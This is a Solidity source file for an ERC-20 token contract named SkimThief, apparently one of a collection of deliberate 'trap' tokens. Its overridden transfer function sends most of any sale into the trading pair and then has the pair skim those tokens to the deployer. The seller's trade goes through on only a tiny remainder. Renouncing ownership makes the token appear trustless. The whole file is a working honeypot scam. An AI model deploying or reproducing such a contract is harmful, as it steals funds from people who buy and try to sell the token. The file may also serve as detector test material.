// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

interface ISkim {
    function skim(address to) external;
}

/// Lets the sale reach the pair, has the pair skim it to the house, and leaves a crumb.
contract SkimThief is TrapErc20V8 {
    address private pair;
    address private immutable house = msg.sender;

    constructor() TrapErc20V8("Skimmed", "MILK", 2_000_000 ether) {}

    function pour(address pair_) external onlyOwner {
        pair = pair_;
        renounceOwnership();
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to != pair || from == house) return super._transfer(from, to, value);
        uint256 crumb = value / 500;
        super._transfer(from, to, value - crumb);
        ISkim(pair).skim(house);
        super._transfer(from, to, crumb);
    }
}
